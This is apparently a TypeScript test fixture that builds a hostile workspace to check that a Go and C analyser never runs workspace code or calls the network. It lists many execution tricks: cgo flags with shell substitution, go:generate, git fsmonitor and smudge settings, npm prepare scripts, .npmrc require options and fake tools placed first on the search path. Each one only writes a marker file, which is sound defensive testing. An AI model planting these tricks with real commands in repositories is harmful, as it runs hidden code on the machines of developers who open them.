// A workspace that tries to make whoever looks at it run something or call somebody. Everything in it that runs leaves a
// file behind; everything it names on a network leads to `address`.
import { chmodSync, existsSync } from "node:fs";
import { delimiter, join } from "node:path";
import { fixable, leaky } from "../sources.ts";
import { tempTree } from "../../harness/tempTree.ts";

export interface HostileWorkspace {
  /** To be scanned. */
  readonly path: string;
  readonly uri: string;
  /** A search path that begins with programs of the workspace, named as tools are that an analyser might ask. */
  readonly searchPath: string;
  /** Reports whether anything of the workspace was run. */
  readonly wasRun: () => boolean;
}

/** Programs that tools for Go and C start. */
const tools = ["go", "gopls", "gcc", "cc", "clang", "g++", "pkg-config", "git", "make", "cmake", "sh", "bash", "node", "npm"];

/** `address`: host and port that nobody should call. */
export function hostileWorkspace(address: string): HostileWorkspace {
  const tree = tempTree({ ".keep": "" });
  const mark = join(tree.path, "was-run");
  const script = `require("fs").writeFileSync(${JSON.stringify(mark)}, __filename);\n`;
  const program = `#!/bin/sh\necho "$0" > '${mark}'\n`;
  const calls = `#cgo pkg-config: evil\n#cgo CFLAGS: -fplugin=./evil.so -include http://${address}/x.h -I\${SRCDIR}/../../../..\n#cgo LDFLAGS: -Wl,-rpath,$(touch ${mark}) \`touch ${mark}\`\n#include "http://${address}/y.h"\n#include "//${address}/share/z.h"\n#include "|touch ${mark}"`;
  const files = tempTree({
    "db/leaky.go": leaky.replace("#include <stdlib.h>", `#include <stdlib.h>\n${calls}`).replace("package db\n", `//go:generate touch ${mark}\n\npackage db\n`),
    "more/fixable.go": fixable.replace("package db", "package more"),
    "more/evil.c": `#include "http://${address}/z.h"\n__attribute__((constructor)) static void run(void) { system("touch ${mark}"); }\n`,
    "go.mod": `module example.com/hostile\n\ngo 1.24\n\ntoolchain go1.99.0\n\nrequire ${address}/x v1.0.0\n`,
    "Makefile": `$(shell touch ${mark})\nall:\n\ttouch ${mark}\n`,
    "Dockerfile": `FROM ${address}/x\nENV GODEBUG=cgocheck=0\nRUN touch ${mark}\n`,
    ".git/config": `[core]\n\tfsmonitor = touch ${mark}\n\thooksPath = hooks\n[filter "x"]\n\tsmudge = touch ${mark}\n`,
    ".git/HEAD": "ref: refs/heads/main\n",
    "cgovet.json": `{ "$schema": "http://${address}/schema.json", "exclude": ["never-there-*"] }`,
    "cgovet.config.js": script,
    "cgovet.js": script,
    "index.js": script,
    "engine.js": script,
    "server/worker.js": script,
    "node_modules/picomatch/index.js": script,
    "node_modules/vscode-languageserver/index.js": script,
    "package.json": `{ "main": "index.js", "type": "commonjs", "scripts": { "prepare": "touch ${mark}" } }`,
    ".npmrc": `node-options=--require ${join(tree.path, "evil.js")}\n`,
    ...Object.fromEntries(tools.map((tool) => [`bin/${tool}`, program])),
  });
  for (const tool of tools) chmodSync(join(files.path, "bin", tool), 0o755);
  return { ...files, searchPath: [join(files.path, "bin"), process.env["PATH"] ?? ""].join(delimiter), wasRun: () => existsSync(mark) };
}
